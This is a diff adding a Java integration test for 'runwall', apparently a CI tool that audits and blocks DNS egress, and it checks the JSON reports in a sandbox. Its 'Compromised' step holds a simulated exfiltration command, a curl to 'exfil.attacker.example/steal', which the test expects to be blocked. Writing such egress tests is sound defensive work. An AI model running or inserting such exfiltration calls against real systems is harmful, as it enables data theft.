@@ -1,0 +1,239 @@
+package dev.runwall.cli;
+
+import static org.assertj.core.api.Assertions.assertThat;
+
+import dev.runwall.core.event.DnsEvent;
+import dev.runwall.core.event.Event;
+import dev.runwall.core.event.Verdict;
+import dev.runwall.core.report.Report;
+import dev.runwall.core.report.ReportJson;
+import dev.runwall.sandbox.ExecResult;
+import dev.runwall.sandbox.Sandbox;
+import dev.runwall.sandbox.SandboxTestKit;
+import dev.runwall.sandbox.Zone;
+import java.nio.file.Files;
+import java.nio.file.Path;
+import java.util.List;
+import org.junit.jupiter.api.AfterAll;
+import org.junit.jupiter.api.BeforeAll;
+import org.junit.jupiter.api.Test;
+import org.junit.jupiter.api.io.TempDir;
+
+/** {@code runwall run} end to end in a network sandbox, asserting on the JSON report and the query log. */
+class RunIT {
+    private static Sandbox sandbox;
+    @TempDir Path tmp;
+
+    @BeforeAll
+    static void up() throws Exception {
+        sandbox = SandboxTestKit.up("runit", Zone.parse("""
+                hosts:
+                  - name: api.nuget.org
+                    ipv4: 198.18.1.10
+                    ipv6: fd52:7761:6c6c::10
+                    tcp: [80, 443]
+                  - name: exfil.attacker.example
+                    ipv4: 198.18.66.6
+                    tcp: [80, 443]
+                  - name: cdn.other.example
+                    ipv4: 198.18.2.20
+                    tcp: [80]
+                  - name: c2.attacker.example
+                    ipv4: 198.18.66.7
+                    ipv6: fd52:7761:6c6c::66:7
+                cnames:
+                  - name: www.nuget.org
+                    target: api.nuget.org
+                  - name: assets.nuget.org
+                    target: cdn.other.example
+                records:
+                  - name: nuget.org
+                    type: TXT
+                    data: '"v=spf1 -all"'
+                """, "runit-zone.yml"));
+    }
+
+    @AfterAll
+    static void down() {
+        if (sandbox != null) {
+            sandbox.down();
+        }
+    }
+
+    private Path steps(String yaml) throws Exception {
+        Path f = tmp.resolve("steps-" + System.nanoTime() + ".yml");
+        Files.writeString(f, yaml);
+        return f;
+    }
+
+    private static List<DnsEvent> dns(Report r, String domain) {
+        return r.events().stream().filter(e -> e instanceof DnsEvent d && d.domain().equals(domain))
+                .map(DnsEvent.class::cast).toList();
+    }
+
+    @Test
+    void auditRecordsEveryQueryWithItsStepProcessAndVerdict() throws Exception {
+        Path out = tmp.resolve("audit");
+        ExecResult r = RunwallProcess.run(sandbox, "run", "--job", "build", "--report-dir", out.toString(),
+                "--steps", steps("""
+                        - name: Restore packages
+                          run: getent ahostsv4 api.nuget.org
+                        - name: Build
+                          run: |
+                            dig +short www.nuget.org A
+                            dig +tcp +short nuget.org TXT
+                            dig +short c2.attacker.example AAAA
+                        """).toString());
+        assertThat(r.exitCode()).as(r.describe()).isZero();
+        Report report = ReportJson.read(out.resolve("report.json"));
+        assertThat(report.job().egressPolicy()).isEqualTo("audit");
+        assertThat(report.job().name()).isEqualTo("build");
+        assertThat(report.steps()).extracting(s -> s.id() + ":" + s.name() + ":" + s.exitCode())
+                .containsExactly("step-1:Restore packages:0", "step-2:Build:0");
+
+        assertThat(dns(report, "api.nuget.org")).isNotEmpty().allSatisfy(e -> {
+            assertThat(e.step()).isEqualTo("step-1");
+            assertThat(e.verdict()).isEqualTo(Verdict.AUDITED);
+            assertThat(e.process().exe()).isEqualTo("/usr/bin/getent");
+            assertThat(e.process().parents()).extracting(p -> p.name()).contains("bash");
+        });
+        assertThat(dns(report, "www.nuget.org")).singleElement().satisfies(e -> {
+            assertThat(e.step()).isEqualTo("step-2");
+            assertThat(e.process().exe()).isEqualTo("/usr/bin/dig");
+            assertThat(e.transport()).isEqualTo("udp");
+            assertThat(e.answers()).extracting(a -> a.type() + " " + a.data())
+                    .containsExactly("CNAME api.nuget.org.", "A 198.18.1.10");
+        });
+        assertThat(dns(report, "nuget.org")).singleElement().satisfies(e -> {
+            assertThat(e.transport()).isEqualTo("tcp");
+            assertThat(e.qtype()).isEqualTo("TXT");
+            assertThat(e.step()).isEqualTo("step-2");
+        });
+        assertThat(dns(report, "c2.attacker.example")).singleElement().satisfies(e -> {
+            assertThat(e.verdict()).isEqualTo(Verdict.AUDITED);
+            assertThat(e.rcode()).isEqualTo("NOERROR");
+            assertThat(e.answers()).extracting(a -> a.data()).containsExactly("fd52:7761:6c6c::66:7");
+        });
+        assertThat(sandbox.queryLog().contains("c2.attacker.example")).as("audit forwards everything").isTrue();
+        assertThat(report.loss().unattributed()).isZero();
+        String summary = Files.readString(out.resolve("summary.md"));
+        assertThat(summary).contains("### Step: Restore packages (exit 0)", "### Step: Build (exit 0)",
+                "www.nuget.org", "dig (/usr/bin/dig)");
+        assertThat(Files.readAllLines(out.resolve("events.jsonl"))).isNotEmpty()
+                .allSatisfy(line -> assertThat(line).startsWith("{\"kind\":"));
+    }
+
+    @Test
+    void blockAnswersNxdomainOutsideThePolicyAndTheNameNeverLeaves() throws Exception {
+        Path out = tmp.resolve("block");
+        ExecResult r = RunwallProcess.run(sandbox, "run", "--egress-policy", "block", "--allowed-endpoints",
+                "www.nuget.org:443, assets.nuget.org", "--report-dir", out.toString(), "--steps", steps("""
+                        - name: Allowed
+                          run: |
+                            test "$(dig +short www.nuget.org A | tail -n1)" = 198.18.1.10
+                            test "$(dig +short www.nuget.org AAAA | tail -n1)" = fd52:7761:6c6c::10
+                            test "$(dig +tcp +short www.nuget.org A | tail -n1)" = 198.18.1.10
+                            test "$(dig +short assets.nuget.org A | tail -n1)" = 198.18.2.20
+                        - name: Compromised
+                          run: |
+                            dig exfil.attacker.example A | grep -q 'status: NXDOMAIN'
+                            dig +tcp exfil.attacker.example TXT | grep -q 'status: NXDOMAIN'
+                            dig api.nuget.org A | grep -q 'status: NXDOMAIN'
+                            dig cdn.other.example A | grep -q 'status: NXDOMAIN'
+                            curl -sS --max-time 5 http://exfil.attacker.example/steal
+                        """).toString());
+        assertThat(r.exitCode()).as("curl fails to resolve: exit 6\n" + r.describe()).isEqualTo(6);
+        assertThat(r.stderr()).contains("blocked DNS lookup of exfil.attacker.example", "step 'Compromised'");
+        Report report = ReportJson.read(out.resolve("report.json"));
+        assertThat(report.steps()).extracting(s -> s.exitCode()).containsExactly(0, 6);
+
+        assertThat(dns(report, "exfil.attacker.example")).hasSizeGreaterThanOrEqualTo(3).allSatisfy(e -> {
+            assertThat(e.verdict()).isEqualTo(Verdict.BLOCKED);
+            assertThat(e.rcode()).isEqualTo("NXDOMAIN");
+            assertThat(e.step()).isEqualTo("step-2");
+            assertThat(e.reason()).contains("not in allowed-endpoints");
+        });
+        assertThat(dns(report, "exfil.attacker.example")).extracting(DnsEvent::transport).contains("udp", "tcp");
+        assertThat(dns(report, "exfil.attacker.example")).extracting(e -> e.process().exe())
+                .contains("/usr/bin/dig", "/usr/bin/curl");
+        assertThat(dns(report, "api.nuget.org")).as("a CNAME target is not allowed by its own name")
+                .allSatisfy(e -> assertThat(e.verdict()).isEqualTo(Verdict.BLOCKED));
+        assertThat(dns(report, "www.nuget.org")).hasSize(3).allSatisfy(e -> {
+            assertThat(e.verdict()).isEqualTo(Verdict.ALLOWED);
+            assertThat(e.rcode()).isEqualTo("NOERROR");
+        });
+        assertThat(dns(report, "assets.nuget.org")).singleElement().satisfies(e -> {
+            assertThat(e.verdict()).isEqualTo(Verdict.ALLOWED);
+            assertThat(e.reason()).contains("cdn.other.example");
+        });
+        assertThat(sandbox.queryLog().contains("exfil.attacker.example")).as("blocked names never leave").isFalse();
+        assertThat(sandbox.queryLog().queriesFor("cdn.other.example")).as("nor blocked CNAME targets by name").isEmpty();
+        assertThat(Files.readString(out.resolve("summary.md"))).contains("> Blocked exfil.attacker.example in step Compromised");
+    }
+
+    @Test
+    void failOnBlockExitsFiveWhenStepsSucceed() throws Exception {
+        ExecResult r = RunwallProcess.run(sandbox, "run", "--egress-policy", "block", "--fail-on-block",
+                "--report-dir", tmp.resolve("fob").toString(), "--step", "probe", "--",
+                "dig", "+short", "exfil.attacker.example");
+        assertThat(r.exitCode()).as(r.describe()).isEqualTo(ExitCodes.BLOCKED);
+        Report report = ReportJson.read(tmp.resolve("fob/report.json"));
+        assertThat(report.steps()).singleElement().satisfies(s -> assertThat(s.name()).isEqualTo("probe"));
+        assertThat(report.anyBlocked()).isTrue();
+    }
+
+    @Test
+    void badPolicyIsExitTwoNamingTheEntry() {
+        ExecResult r = RunwallProcess.run(sandbox, "run", "--egress-policy", "block", "--allowed-endpoints",
+                "api.nuget.org:443 bad.example:99999", "--report-dir", tmp.resolve("bad").toString(), "--", "true");
+        assertThat(r.exitCode()).isEqualTo(ExitCodes.INVALID_INPUT);
+        assertThat(r.stderr()).contains("allowed-endpoints entry 2 'bad.example:99999': port 99999 is out of range");
+        assertThat(tmp.resolve("bad/events.jsonl")).doesNotExist();
+    }
+
+    @Test
+    void resolverConfigurationIsRestoredAfterStop() throws Exception {
+        Path resolv = Path.of("/etc/netns", sandbox.runnerNamespace(), "resolv.conf");
+        String before = Files.readString(resolv);
+        ExecResult r = RunwallProcess.run(sandbox, "run", "--report-dir", tmp.resolve("restore").toString(), "--",
+                "cat", "/etc/resolv.conf");
+        assertThat(r.exitCode()).as(r.describe()).isZero();
+        assertThat(r.stdout()).as("while running, the runner resolves through the agent")
+                .contains("nameserver 127.0.0.1").doesNotContain(before.strip());
+        assertThat(Files.readString(resolv)).isEqualTo(before);
+    }
+
+    @Test
+    void resolverConfigurationIsRestoredOnTheNextStartAfterAKilledAgent() throws Exception {
+        Path resolv = Path.of("/etc/netns", sandbox.runnerNamespace(), "resolv.conf");
+        String before = Files.readString(resolv);
+        Path marker = tmp.resolve("started");
+        Process agent = sandbox.processBuilder(RunwallProcess.command("run", "--report-dir",
+                        tmp.resolve("killed").toString(), "--", "bash", "-c", "touch " + marker + "; sleep 60"))
+                .redirectErrorStream(true).redirectOutput(tmp.resolve("killed.log").toFile()).start();
+        try {
+            long deadline = System.nanoTime() + 60_000_000_000L;
+            while (!Files.exists(marker) && System.nanoTime() < deadline && agent.isAlive()) {
+                Thread.sleep(50);
+            }
+            assertThat(marker).as(Files.readString(tmp.resolve("killed.log"))).exists();
+            assertThat(Files.readString(resolv)).contains("nameserver 127.0.0.1");
+            killJavaIn(agent);
+        } finally {
+            agent.destroyForcibly().waitFor();
+        }
+        ExecResult again = RunwallProcess.run(sandbox, "run", "--report-dir", tmp.resolve("again").toString(), "--", "true");
+        assertThat(again.exitCode()).as(again.describe()).isZero();
+        assertThat(Files.readString(resolv)).isEqualTo(before);
+        assertThat(Files.readString(tmp.resolve("again/events.jsonl"))).contains("restored the resolver configuration");
+    }
+
+    /** SIGKILL the runwall JVM (a child of 'ip netns exec'), not the wrapper. */
+    private static void killJavaIn(Process wrapper) throws Exception {
+        ProcessHandle java = wrapper.toHandle().descendants()
+                .filter(h -> h.info().command().map(c -> c.endsWith("java")).orElse(false))
+                .findFirst().orElse(wrapper.toHandle());
+        new ProcessBuilder("kill", "-KILL", Long.toString(java.pid())).start().waitFor();
+        java.onExit().get();
+    }
+}
